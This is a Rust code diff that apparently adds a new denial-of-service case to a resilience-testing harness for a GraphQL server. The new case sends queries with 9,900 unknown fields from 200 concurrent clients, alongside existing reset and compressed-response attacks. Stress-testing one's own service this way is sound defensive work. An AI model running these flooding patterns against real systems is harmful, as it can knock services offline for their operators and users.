@@ -63,6 +63,8 @@ pub enum Attack {
     Resets,
     /// Responses of many megabytes for a hundred credits, compressed
     EncodedResponses,
+    /// Queries of 9,900 unknown fields, 200 at the same time
+    InvalidQueries,
 }
 
 impl Attack {
@@ -88,6 +90,7 @@ impl Attack {
             Self::TinyTexts => persisted_queries(attacker, 0),
             Self::Resets => resets(attacker),
             Self::EncodedResponses => encoded_responses(attacker),
+            Self::InvalidQueries => invalid_queries(attacker),
         }
     }
 }
@@ -260,6 +263,14 @@ fn encoded_responses(attacker: &Attacker) -> Result<()> {
     let request = http1_body(attacker, "Accept-Encoding: br\r\n", &json!({ "query": query }));
     let request = &request;
     attacker.run_clients(10, async |_| attacker.send_all(|| request.clone()).await)
+}
+
+fn invalid_queries(attacker: &Attacker) -> Result<()> {
+    let fields = (0..9_900).fold(String::new(), |fields, number| format!("{fields} unknown{number}"));
+    let query = format!("{{ orders(first: 1) {{ edges {{ node {{ {fields} }} }} }} }}");
+    let request = http1_body(attacker, "", &json!({ "query": query }));
+    let request = &request;
+    attacker.run_clients(200, async |_| attacker.send_all(|| request.clone()).await)
 }
 
 fn http1_body(attacker: &Attacker, headers: &str, body: &Value) -> Vec<u8> {
